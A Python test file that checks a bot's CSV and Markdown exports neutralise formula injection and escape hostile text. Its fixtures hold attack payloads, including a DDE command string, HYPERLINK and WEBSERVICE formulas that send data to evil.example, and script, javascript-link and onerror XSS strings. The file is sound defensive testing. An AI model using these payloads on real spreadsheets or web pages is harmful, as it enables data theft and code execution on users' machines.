"""Exports are inert: CSV cells that a spreadsheet would run as formulas are neutralised
(OWASP), and Markdown shows user text as typed, never as HTML, headings, lists or links."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from bot.database import Database
from bot.export import export
from bot.inert import FORMULA_STARTS, markdown_text, spreadsheet_cell
from bot.render import TEMPLATE_DIR
from bot.services.decisions import DecisionDraft, log_decision
from bot.services.hypotheses import HypothesisDraft, log_hypothesis
from bot.services.projects import project_for_channel
from bot.services.risks import RiskDraft, log_risk

FORMULAS = ["=1+2", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=cmd|' /C calc'!A0", "\r=1+1",
            '=HYPERLINK("http://evil.example/?"&A1,"click")']
MARKDOWN = ("<script>alert(1)</script>\n# Heading\n- item\n* star\n+ plus\n1. first\n2) second\n"
            "[x](javascript:alert(1))\n![i](http://evil.example/i.png)\n[ref]: http://evil\n"
            "> quote\n---\n===\n```\n| a | b |\n<img src=x onerror=alert(1)>\\[y](z)\rCR line")
BENIGN = "plain words\n" * MARKDOWN.count("\n") + "plain words"


def seed(db: Database, long_text: str, short_texts: list[str]) -> None:
    with db.session() as session:
        project = project_for_channel(session, "T1", "C0CHURN01", "churn")
        for text in short_texts:
            log_decision(session, project, "U0ALICE01", DecisionDraft(
                title=text, context=long_text, options=long_text, decision=text,
                consequences=long_text))
            log_hypothesis(session, project, "U0ALICE01", HypothesisDraft(
                statement=text, metric=text, expected_effect=text, notes=long_text))
            log_risk(session, project, "U0ALICE01", RiskDraft(
                title=text, description=long_text, mitigation=long_text, likelihood=3,
                impact=4))


def exported(db: Database, register: str, fmt: str) -> str:
    out = io.StringIO()
    with db.session() as session:
        export(session, register, fmt, out)
    return out.getvalue()


# ---------------------------------------------------------------------------- CSV

@pytest.mark.parametrize("register", ["decisions", "hypotheses", "risks"])
def test_csv_cells_never_start_a_formula(db: Database, register: str) -> None:
    seed(db, "=WEBSERVICE(\"http://evil.example\")", FORMULAS)
    rows = list(csv.reader(io.StringIO(exported(db, register, "csv"))))
    assert len(rows) == 1 + len(FORMULAS)
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    # Neutralised, not lost: the text as stored follows the quote.
    column = rows[0].index("statement" if register == "hypotheses" else "title")
    assert [row[column] for row in rows[1:]] == ["'" + " ".join(text.split())
                                                 for text in FORMULAS]


def test_spreadsheet_cell_prefixes_exactly_the_formula_starts() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(f"{start}x") == f"'{start}x"
    for value in ("x=1", " =1", "'=1", "", "D-1", 3, -3, None, 2.5):
        assert spreadsheet_cell(value) == value


# ---------------------------------------------------------------------------- Markdown

PARSER = MarkdownIt("commonmark").enable("table")


def _structure(markdown: str) -> list[tuple[str, str]]:
    """The block structure a Markdown viewer builds: (token type, tag), inline text left out."""
    return [(token.type, token.tag) for token in PARSER.parse(markdown)
            if token.type != "inline"]


def _inline_kinds(markdown: str) -> set[str]:
    return {child.type for token in PARSER.parse(markdown) if token.type == "inline"
            for child in token.children or []}


def _shown_text(markdown: str) -> str:
    return "\n".join(child.content for token in PARSER.parse(markdown)
                     if token.type == "inline" for child in token.children or []
                     if child.type in ("text", "code_inline"))


@pytest.mark.parametrize("register", ["decisions", "hypotheses", "risks"])
def test_markdown_export_shows_hostile_text_as_typed_and_builds_nothing(
        database_url: str, tmp_path: Path, new_database: Any, register: str) -> None:
    """The same records with hostile and with plain text parse to the same document: no
    heading, list, quote, table, rule or code block came from the text, and no link or HTML."""
    hostile_db, benign_db = Database(database_url), Database(
        new_database("sqlite", tmp_path))
    try:
        seed(hostile_db, MARKDOWN, ["<b>bold</b> # not a heading [x](javascript:alert(1))"])
        seed(benign_db, BENIGN, ["plain words plain words plain words"])
        hostile = exported(hostile_db, register, "md")
        benign = exported(benign_db, register, "md")
    finally:
        hostile_db.dispose()
        benign_db.dispose()
    assert _structure(hostile) == _structure(benign)
    assert not _inline_kinds(hostile) & {"html_inline", "link_open", "image", "autolink"}
    shown = _shown_text(hostile)
    for typed in ("<script>alert(1)</script>", "# Heading", "- item", "1. first",
                  "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>", "| a | b |",
                  "<b>bold</b> # not a heading"):
        assert typed in shown, typed


def test_markdown_text_escapes_html_and_line_starts() -> None:
    assert markdown_text("<script>") == "&lt;script&gt;"
    assert markdown_text("# H\n  - i\n3. n") == "\\# H\n  \\- i\n3\\. n"
    assert markdown_text("[x](javascript:y)") == "\\[x\\](javascript:y)"
    assert markdown_text("a\\[b") == "a\\\\\\[b"  # a backslash of its own cannot undo one


def test_every_markdown_template_makes_its_records_inert() -> None:
    templates = sorted(TEMPLATE_DIR.glob("**/*.md.j2"))
    assert templates
    for path in templates:
        assert "records|markdown_inert" in path.read_text(), path
